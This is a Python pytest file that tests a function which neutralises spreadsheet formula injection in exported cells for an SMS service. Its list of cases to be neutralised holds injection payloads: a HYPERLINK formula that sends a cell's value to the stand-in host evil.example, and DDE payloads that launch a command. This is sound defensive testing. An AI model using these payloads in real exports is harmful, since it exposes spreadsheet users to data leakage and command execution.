"""Spreadsheet-safe cells: what gets the neutralising quote and what stays exact."""

from __future__ import annotations

import pytest

from sms_service.domain.spreadsheet import spreadsheet_safe

NEUTRALISED = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click") stop',
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "+",
    "-",
    "=",
    "+1 202 555 0123",  # not a plain number: could be anything after the space
    "-1e3",
    "+0x1F",
    "+١٢٣",  # Arabic-Indic digits are not the ASCII digits a spreadsheet reads as a number
]
UNCHANGED = [
    "",
    "STOP",
    "Ada Lovelace",
    " =1+2",  # a leading space: spreadsheets read text
    "a=1",
    "'=already quoted",
    "+12025550123",  # E.164, the phone column
    "-3",
    "+1.5",
    "12",
    "Señora Núñez 🛑",
]


@pytest.mark.parametrize("cell", NEUTRALISED)
def test_formula_starts_get_a_leading_quote(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", UNCHANGED)
def test_text_and_plain_numbers_are_left_exact(cell):
    assert spreadsheet_safe(cell) == cell
